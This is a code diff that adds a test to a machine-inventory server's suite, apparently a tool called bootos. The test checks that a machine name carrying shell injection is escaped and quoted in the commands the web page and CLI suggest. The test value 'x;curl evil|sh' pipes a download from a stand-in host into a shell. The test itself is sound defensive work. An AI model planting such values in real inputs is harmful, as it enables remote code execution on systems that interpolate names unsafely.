@@ -493,3 +493,21 @@ def test_names_that_a_machine_says_of_itself_do_not_grow_without_end(server: Run
         )
     assert len(names) <= MOST_SAID + 5
     assert "serial number 58" in names and "serial number 0" not in names
+
+
+def test_no_command_to_be_copied_has_a_name_that_a_shell_obeys(server: Running) -> None:
+    evil = "x;curl evil|sh"
+    number = id_of(boot(server, evil, build_inventory(MACS[0], uuid=UUIDS[0]), OEM))
+    leave(server, OEM, SECOND)
+    with server.context.store.write() as session:
+        record_claim(session, session.get_one(Machine, number), "another boot", "10.0.0.77")
+        session.add(Alias(machine_id=number, name=OEM, key=OEM.casefold()))
+    page = read(server, f"/machines/id:{number}", log_in(server))
+    assert "rename id:OTHER &#39;x;curl evil|sh&#39; --replace" in page
+    assert (
+        server.refuse("GET", f"/machines/id:{number}/capture/file").data["hint"]
+        == "bootos machine capture id:1"
+    )
+    runner = CliRunner(env={"BOOTOS_SERVER": server.url, "BOOTOS_DATA": str(server.data), "COLUMNS": "250"})
+    shown = runner.invoke(build_app(["machine"]), ["machine", "show", evil]).output
+    assert "bootos machine acknowledge id:1" in shown
